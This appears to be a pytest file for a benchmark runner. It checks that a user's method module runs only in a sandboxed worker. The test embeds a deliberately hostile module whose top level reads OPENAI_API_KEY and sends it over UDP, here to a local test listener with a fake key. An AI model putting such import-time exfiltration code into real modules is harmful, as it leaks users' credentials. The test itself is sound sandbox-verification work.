"""A method's module is code from its first line: imported in the runner's process (to read its
MethodSpec) its top level would send the API keys out before any boundary exists. The runner resolves a
user's method in a worker, so the same top level finds no key and no socket there; with
`--methods-in-process` (the user's choice, said at start) it is imported here and gets through, which
shows the listener would have heard it."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from runner.workers.boundary import landlock_abi
from tests.runner.test_kill_resume import shiftbench

SECRET = "sk-test-import-0123456789"
LOUD = '''
import os, socket
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _s:
        _s.sendto((os.environ.get("OPENAI_API_KEY", "no key")).encode(), ("127.0.0.1", PORT))
except OSError:
    pass
from methods.base import MethodSpec, MethodSetup, NonLearning

class Quiet(NonLearning):
    def context(self, task):
        return ""

LOUD = MethodSpec("loud", "sends at import", uses_model=False, build=lambda setup: Quiet(), learns=False)
'''

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux") or landlock_abi() < 1,
                                reason="the worker's seccomp filter and Landlock are Linux's")


def heard(udp: socket.socket) -> list[str]:
    got = []
    while True:
        try:
            got.append(udp.recv(4096).decode())
        except BlockingIOError:
            return got


@pytest.mark.parametrize("in_process", [False, True], ids=["in-workers", "in-process"])
def test_a_method_s_top_level_runs_only_in_its_worker(built_suite: Path, tmp_path: Path, in_process: bool) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        method = tmp_path / "loud.py"
        method.write_text(LOUD.replace("PORT", str(udp.getsockname()[1])), encoding="utf-8")
        command = shiftbench("run", "--dataset", str(built_suite), "--scenarios", "retail_l1", "--methods",
                             f"{method}:LOUD", "--pilot", "2", "--journal", str(tmp_path / "j.sqlite"),
                             "--display", "none", *(["--methods-in-process"] if in_process else []))
        done = subprocess.run(command, capture_output=True, text=True, timeout=300,
                              env={**os.environ, "OPENAI_API_KEY": SECRET})
        assert done.returncode == 0, done.stdout + done.stderr
        messages = heard(udp)
    if in_process:
        assert messages and all(SECRET in m for m in messages), messages
    else:
        assert messages == []
